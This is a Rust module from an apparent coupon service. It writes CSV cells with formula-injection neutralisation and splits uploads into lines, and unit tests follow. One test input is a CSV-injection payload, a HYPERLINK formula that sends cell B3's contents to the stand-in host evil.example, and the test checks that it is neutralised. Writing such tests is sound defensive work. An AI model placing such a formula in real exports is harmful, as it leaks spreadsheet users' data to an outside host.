//! CSV as coupond writes and reads it.
//!
//! Every file coupond writes (the reconciliation, a template's holders, a batch's codes) is
//! built with [`CsvWriter`], so every cell of text passes [`field`], which keeps a
//! spreadsheet from reading it as a formula. Every upload it reads (issuances, user tags) is
//! cut into lines by [`LineSplitter`]: a byte-order mark dropped, `\r\n`, `\n` and a lone
//! `\r` each ending a line.
//!
//! Text cells (titles, user ids, codes, order ids, timestamps) are neutralised as OWASP
//! recommends: a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
//! leading `'`, so a spreadsheet shows it as text. Number cells ([`CsvWriter::number`]) are
//! integers coupond formats itself, so a negative one (`-500`, a net discount) stays a number.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula (or, for the tab and
/// the carriage return, that some spreadsheets skip before reading the rest as one).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell of text as CSV: with a leading `'` when it starts like a formula, then in double
/// quotes (doubled inside) when it holds a comma, a double quote or a line break.
pub fn field(s: &str) -> Cow<'_, str> {
    let neutral: Cow<'_, str> = if s.starts_with(FORMULA_START) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    };
    if neutral.contains([',', '"', '\n', '\r']) {
        Cow::Owned(format!("\"{}\"", neutral.replace('"', "\"\"")))
    } else {
        neutral
    }
}

/// CSV text built line by line: cells are separated by commas, lines end with `\n`.
#[derive(Debug, Default)]
pub struct CsvWriter {
    text: String,
    /// Whether the current line has a cell yet (the next one needs a comma first).
    in_line: bool,
}

impl CsvWriter {
    /// An empty file (for a page that continues one begun elsewhere).
    pub fn new() -> Self {
        Self::default()
    }

    /// A file starting with the header line `names`.
    pub fn with_header(names: &[&str]) -> Self {
        let mut w = Self::new();
        for name in names {
            w.text(name);
        }
        w.end_line();
        w
    }

    /// Appends a cell of text, neutralised and quoted by [`field`].
    pub fn text(&mut self, s: &str) -> &mut Self {
        self.separate();
        self.text.push_str(&field(s));
        self
    }

    /// Appends a cell of text, empty for `None`.
    pub fn optional(&mut self, s: Option<&str>) -> &mut Self {
        self.text(s.unwrap_or_default())
    }

    /// Appends a number cell: an integer coupond computed, written as a number even when
    /// negative.
    pub fn number(&mut self, n: i64) -> &mut Self {
        self.separate();
        self.text.push_str(&n.to_string());
        self
    }

    /// Appends a number cell, empty for `None`.
    pub fn optional_number(&mut self, n: Option<i64>) -> &mut Self {
        match n {
            Some(n) => self.number(n),
            None => self.text(""),
        }
    }

    /// Ends the current line.
    pub fn end_line(&mut self) -> &mut Self {
        self.text.push('\n');
        self.in_line = false;
        self
    }

    /// The text written.
    pub fn finish(self) -> String {
        self.text
    }

    fn separate(&mut self) {
        if self.in_line {
            self.text.push(',');
        }
        self.in_line = true;
    }
}

/// The UTF-8 byte-order mark some editors put at the start of a file.
const BOM: &[u8] = b"\xEF\xBB\xBF";

/// Cuts an upload into lines as its bytes arrive, however they are chunked: `\r\n`, `\n` and
/// a lone `\r` (old Mac files) each end a line, and a UTF-8 byte-order mark at the very start
/// is dropped. Only the current line is held, and only its first `max_line_bytes` bytes (a
/// longer line is judged by its start).
#[derive(Debug)]
pub struct LineSplitter {
    max_line_bytes: usize,
    /// The line being read, up to `max_line_bytes`.
    partial: Vec<u8>,
    /// Lines ended so far (blank ones included).
    ended: u64,
    /// The last byte read was a `\r`: a `\n` next belongs to the same line end.
    after_cr: bool,
}

impl LineSplitter {
    /// A splitter holding at most `max_line_bytes` of a line.
    pub fn new(max_line_bytes: usize) -> Self {
        LineSplitter {
            max_line_bytes,
            partial: Vec::new(),
            ended: 0,
            after_cr: false,
        }
    }

    /// Reads the next bytes: calls `each` with every line they end, numbered from 1 and
    /// without its line end. Stops at the first error `each` returns.
    pub fn feed<E>(
        &mut self,
        mut bytes: &[u8],
        mut each: impl FnMut(u64, &[u8]) -> Result<(), E>,
    ) -> Result<(), E> {
        if self.after_cr && !bytes.is_empty() {
            bytes = bytes.strip_prefix(b"\n").unwrap_or(bytes);
            self.after_cr = false;
        }
        while let Some(end) = bytes.iter().position(|b| *b == b'\n' || *b == b'\r') {
            self.keep(&bytes[..end]);
            self.end_line(&mut each)?;
            let cr = bytes[end] == b'\r';
            bytes = &bytes[end + 1..];
            if cr {
                self.after_cr = bytes.is_empty();
                bytes = bytes.strip_prefix(b"\n").unwrap_or(bytes);
            }
        }
        self.keep(bytes);
        Ok(())
    }

    /// The upload is complete: calls `each` with its last line if no line break ended it.
    pub fn finish<E>(mut self, mut each: impl FnMut(u64, &[u8]) -> Result<(), E>) -> Result<(), E> {
        if self.partial.is_empty() {
            return Ok(());
        }
        self.end_line(&mut each)
    }

    /// Bytes held for the line being read.
    pub fn held(&self) -> usize {
        self.partial.len()
    }

    fn keep(&mut self, bytes: &[u8]) {
        let room = self.max_line_bytes.saturating_sub(self.partial.len());
        self.partial
            .extend_from_slice(&bytes[..bytes.len().min(room)]);
    }

    fn end_line<E>(&mut self, each: &mut impl FnMut(u64, &[u8]) -> Result<(), E>) -> Result<(), E> {
        self.ended += 1;
        let line = std::mem::take(&mut self.partial);
        let text = match self.ended {
            1 => line.strip_prefix(BOM).unwrap_or(&line),
            _ => &line,
        };
        each(self.ended, text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_start_like_formulas_are_text() {
        let title = r#"=HYPERLINK("http://evil.example/?d="&B3,"Open report")"#;
        assert_eq!(
            field(title),
            r#""'=HYPERLINK(""http://evil.example/?d=""&B3,""Open report"")""#
        );
        for (cell, written) in [
            ("+1+2", "'+1+2"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
            ("=1,2", "\"'=1,2\""),
        ] {
            assert_eq!(field(cell), written, "{cell:?}");
        }
    }

    #[test]
    fn other_cells_are_kept_and_quoted_only_when_needed() {
        for (cell, written) in [
            ("10% off", "10% off"),
            ("a=b", "a=b"),
            ("", ""),
            ("2024-01-01T00:00:00Z", "2024-01-01T00:00:00Z"),
            ("a,b", "\"a,b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            ("two\nlines", "\"two\nlines\""),
        ] {
            assert_eq!(field(cell), written, "{cell:?}");
        }
    }

    #[test]
    fn a_writer_neutralises_text_and_keeps_numbers() {
        let mut w = CsvWriter::with_header(&["title", "net"]);
        w.text("=1+1").number(-500).end_line();
        w.optional(None).optional_number(Some(7)).end_line();
        w.optional(Some("-x")).optional_number(None).end_line();
        assert_eq!(w.finish(), "title,net\n'=1+1,-500\n,7\n'-x,\n");
    }

    /// The lines of `text` fed in chunks of `size`, as (number, line).
    fn lines(text: &[u8], size: usize) -> Vec<(u64, String)> {
        let mut out = Vec::new();
        let mut push = |n: u64, l: &[u8]| {
            out.push((n, String::from_utf8(l.to_vec()).unwrap()));
            Ok::<_, ()>(())
        };
        let mut s = LineSplitter::new(16);
        for chunk in text.chunks(size) {
            s.feed(chunk, &mut push).unwrap();
        }
        s.finish(&mut push).unwrap();
        out
    }

    #[test]
    fn every_line_end_ends_a_line_in_any_chunking() {
        let text = "\u{feff}user_id\r\na\rb\nc\r\rd\r\n\ne";
        let want: Vec<(u64, String)> = ["user_id", "a", "b", "c", "", "d", "", "e"]
            .iter()
            .enumerate()
            .map(|(i, l)| (i as u64 + 1, (*l).to_owned()))
            .collect();
        for size in 1..=text.len() {
            assert_eq!(lines(text.as_bytes(), size), want, "chunks of {size}");
        }
        assert_eq!(lines(b"a\r", 1), [(1, "a".to_owned())]);
        assert_eq!(lines("\u{feff}".as_bytes(), 1), [(1, String::new())]);
        assert_eq!(lines("a\n\u{feff}b".as_bytes(), 2)[1].1, "\u{feff}b");
    }

    #[test]
    fn a_long_line_is_held_up_to_the_bound() {
        let mut s = LineSplitter::new(4);
        s.feed(b"abcdefgh", |_, _| Ok::<_, ()>(())).unwrap();
        assert_eq!(s.held(), 4);
        let mut got = Vec::new();
        s.feed(b"ij\nk", |n, l| {
            got.push((n, l.to_vec()));
            Ok::<_, ()>(())
        })
        .unwrap();
        assert_eq!(got, [(1, b"abcd".to_vec())]);
    }
}
